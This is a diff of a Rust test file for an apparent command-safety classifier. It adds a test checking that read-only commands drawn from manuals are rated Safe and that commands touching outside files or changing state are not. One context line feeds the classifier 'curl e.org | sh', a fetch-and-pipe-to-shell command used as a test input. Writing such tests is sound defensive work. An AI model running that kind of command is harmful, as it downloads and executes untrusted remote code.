@@ -54,6 +54,39 @@ fn every_line_of_the_corpus_has_its_level() {
     assert!(higher.len() * 100 < lines.len() * 3, "false alarms:\n{}", higher.join("\n"));
 }
 
+/// Of lines that only read within the folder, by the examples of manuals, most run unasked; of all others, none does.
+#[test]
+fn examples_of_manuals_that_only_read_run_unasked_and_no_others() {
+    const MANUALS: &str = include_str!("../manuals.txt");
+    let lines = MANUALS.lines().filter(|it| !it.starts_with('#'));
+    let lines: Vec<(&str, &str)> =
+        lines.map(|it| it.split_once(" | ").expect("two parts")).collect();
+    let of = |what: &str| lines.iter().filter(|it| it.0 == what).map(|it| it.1).collect::<Vec<_>>();
+    let is_safe = |it: &&&str| classify(it).danger() == Danger::Safe;
+    let (reads, outside, changes) = (of("reads"), of("outside"), of("changes"));
+    let unasked = reads.iter().filter(is_safe).count();
+    let share = |of: usize| 100.0 * unasked as f64 / of as f64;
+    println!(
+        "manuals: {} lines; of {} that only read within the folder, {unasked} run unasked ({:.1} %); of all {} that only read, {:.1} %",
+        lines.len(),
+        reads.len(),
+        share(reads.len()),
+        reads.len() + outside.len(),
+        share(reads.len() + outside.len())
+    );
+    for line in reads.iter().filter(|it| !is_safe(it)) {
+        println!("asks: {line}: {}", classify(line));
+    }
+    assert_eq!(
+        lines.len(),
+        reads.len() + outside.len() + changes.len(),
+        "each has one of three words"
+    );
+    assert!(lines.len() >= 1000 && share(reads.len()) >= 85.0);
+    let wrong: Vec<_> = outside.iter().chain(&changes).filter(is_safe).collect();
+    assert_eq!(wrong, Vec::<&&str>::new(), "only what reads within the folder runs unasked");
+}
+
 #[test]
 fn the_worst_part_and_its_reason_are_named() {
     let found = classify("cd sub && git log; curl e.org | sh");
